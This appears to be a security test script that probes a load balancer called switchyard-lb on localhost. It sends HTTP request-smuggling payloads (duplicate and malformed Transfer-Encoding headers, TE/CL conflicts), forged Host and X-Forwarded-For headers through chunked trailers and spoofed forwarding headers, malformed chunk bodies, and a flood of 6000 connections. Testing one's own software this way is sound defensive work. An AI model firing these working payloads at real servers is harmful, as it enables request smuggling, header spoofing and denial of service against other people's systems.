#!/usr/bin/env python3
# Probe switchyard-lb as an attacker on the same host would (issue: vulnerabilities, points 1-6):
# one line per probe. Usage: python3 lb_probe.py PATH/TO/switchyard-lb (run with ulimit -n 20000).
# Starts its own Node backend and balancer on 127.0.0.1 and stops both (by PID) at the end.
import json, os, socket, subprocess, sys, time, re
LB = sys.argv[1]
NODE_JS = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'node_http_backend.js')
def start(argv, log):
    f = open(log, 'w')
    p = subprocess.Popen(argv, stdout=f, stderr=subprocess.STDOUT)
    for _ in range(300):
        t = open(log).read()
        m = re.search(r'READY name=\S+ port=(\d+) admin=(\d+)', t)
        if m: return p, int(m.group(1)), int(m.group(2))
        time.sleep(0.05)
    raise SystemExit('no READY from %s: %s' % (argv, open(log).read()))
node, nport, _ = start(['node', NODE_JS], '/tmp/probe-node.log')
lb, port, admin = start([LB, '--backend', 'n1=127.0.0.1:%d' % nport, '--port', '0', '--admin-port', '0', '--threads', '1'], '/tmp/probe-lb.log')
def exch(data, timeout=3.0):
    s = socket.create_connection(('127.0.0.1', port)); s.sendall(data.encode('latin1'))
    s.settimeout(timeout); out = b''; t0 = time.time(); closed = False
    try:
        while True:
            b = s.recv(65536)
            if not b: closed = True; break
            out += b
    except socket.timeout: pass
    s.close(); return out.decode('latin1'), closed, time.time() - t0
def served():
    return [json.loads(l) for l in open('/tmp/probe-node.log') if l.startswith('{"method"')]
def stats():
    s = socket.create_connection(('127.0.0.1', admin)); s.sendall(b'GET /stats HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n')
    d = b''
    while True:
        b = s.recv(65536)
        if not b: break
        d += b
    return json.loads(d.split(b'\r\n\r\n', 1)[1])['totals']
def first(r): return r[0].split('\r\n', 1)[0] or '(no answer)'
n0 = len(served()); r0 = stats()['requests']
r = exch("POST /first HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n33\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\nX-Evil: 1\r\n\r\n\r\n0\r\n\r\n")
v = exch("GET /victim HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
time.sleep(0.3)
urls = [x['url'] for x in served()[n0:]]
print('1 dup TE: attacker got %r; victim got body %r; lb counted %d requests, node served %d: %s' % (first(r), v[0].split('\r\n\r\n',1)[-1].strip(), stats()['requests'] - r0, len(urls), urls))
sm = "0\r\n\r\nGET /smuggled2 HTTP/1.1\r\nHost: x\r\n\r\n"
res = []
for te in ['xchunked', 'chunked, identity', 'gzip', 'gzip,\r\n chunked']:
    a = exch("POST /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: %s\r\nContent-Length: %d\r\n\r\n%s" % (te, len(sm), sm))
    res.append('%r->%s' % (te, first(a)))
print('2 TE+CL:', '; '.join(res))
n0 = len(served())
exch("POST /trailers HTTP/1.1\r\nHost: good\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\nX-Forwarded-For: 6.6.6.6\r\nHost: evil\r\n\r\n")
time.sleep(0.3)
h = [x['headers'] for x in served()[n0:]]
hdr = lambda hs, n: [hs[i+1] for i in range(0, len(hs), 2) if hs[i].lower() == n]
print('3 trailers: backend saw Host=%s X-Forwarded-For=%s' % (hdr(h[0], 'host') if h else '-', hdr(h[0], 'x-forwarded-for') if h else '-'))
n0 = len(served())
exch("GET /fwd HTTP/1.1\r\nHost: real\r\nX-Forwarded-Host: evil\r\nX-Real-IP: 6.6.6.6\r\nForwarded: for=6.6.6.6\r\nConnection: close\r\n\r\n")
a = exch("GET http://abs.example/abs HTTP/1.1\r\nHost: other\r\nConnection: close\r\n\r\n")
nh = exch("GET /nohost HTTP/1.1\r\nConnection: close\r\n\r\n")
time.sleep(0.3)
s = served()[n0:]
f = [x for x in s if x['url'] == '/fwd']
print('4 headers: X-Forwarded-Host=%s X-Real-IP=%s Forwarded=%s; absolute-form reached backend as %s; no Host -> %s' % (
    hdr(f[0]['headers'], 'x-forwarded-host'), hdr(f[0]['headers'], 'x-real-ip'), hdr(f[0]['headers'], 'forwarded'),
    [ (x['url'], hdr(x['headers'], 'host')) for x in s if 'abs' in x['url']], first(nh)))
for body in ["5\nhello\r\n0\r\n\r\n", "5\r\nhello\r\n0\n\n", "5\r\nhello\r\n0\r\n\n", "5;x\nhello\r\n0\r\n\r\n"]:
    b = exch("POST /lf HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" + body, timeout=8)
    print('5 bare LF chunk body %r: answer %r closed=%s after %.1f s (probe waits 8 s)' % (body, first(b), b[1], b[2]))
socks = []
for i in range(6000):
    try:
        c = socket.create_connection(('127.0.0.1', port)); socks.append(c)
    except OSError as e:
        break
time.sleep(1.0)
alive = 0
for c in socks:
    c.setblocking(False)
    try:
        d = c.recv(1)
        if d == b'': pass
        else: alive += 1
    except BlockingIOError: alive += 1
    except OSError: pass
print('6 per-address: opened %d connections from 127.0.0.1, %d still open after 1 s; stats %s' % (len(socks), alive, {k: v for k, v in stats().items() if 'connections' in k}))
for c in socks: c.close()
lb.terminate(); node.terminate(); lb.wait(); node.wait()
